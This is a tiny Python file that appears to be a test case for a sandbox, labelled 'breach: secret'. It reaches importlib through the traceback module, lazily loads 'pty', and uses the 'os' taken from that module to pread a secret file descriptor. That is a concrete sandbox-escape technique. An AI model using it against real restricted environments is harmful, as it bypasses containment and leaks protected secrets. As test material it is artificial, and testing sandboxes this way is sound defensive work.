# importlib's LazyLoader, from a module of the library's that has importlib.
# breach: secret
# only: 3.15+
import traceback
util = traceback.importlib.util
spec = util.find_spec("pty")
spec.loader = util.LazyLoader(spec.loader)
module = util.module_from_spec(spec)
spec.loader.exec_module(module)
module.os.pread(SECRET_FD, 100, 0)
